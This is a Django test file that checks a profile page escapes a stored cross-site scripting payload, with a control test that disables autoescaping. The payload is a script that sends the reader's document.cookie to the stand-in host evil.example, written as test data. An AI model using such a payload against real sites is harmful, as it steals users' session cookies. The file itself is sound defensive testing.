"""
Stored cross-site scripting: a script saved as content runs in the browser of each reader.

Templates turn the characters < > & and quotation marks in every value into text.
https://docs.djangoproject.com/en/6.1/topics/security/#cross-site-scripting-xss-protection
"""

from django.utils.html import escape

PROTECTION = 'accounts/templates/accounts/profile.html: <h1 dir="auto">{{ user }}</h1>'

SCRIPT = "<script>fetch('//evil.example/' + document.cookie)</script>"


def attack(client, user):
    """Save a script as one's name, and return the page that shows it."""
    client.force_login(user)
    return client.post("/accounts/profile/", {"name": SCRIPT}, follow=True)


def test_attack_is_shown_as_text(client, reader):
    page = attack(client, reader)

    assert page.status_code == 200
    assert f'<h1 dir="auto">{escape(SCRIPT)}</h1>' in page.text
    assert SCRIPT not in page.text


def test_control_without_escaping_the_script_is_in_the_page(client, reader, settings):
    engine = settings.TEMPLATES[0]
    settings.TEMPLATES = [engine | {"OPTIONS": engine["OPTIONS"] | {"autoescape": False}}]

    page = attack(client, reader)

    assert f'<h1 dir="auto">{SCRIPT}</h1>' in page.text
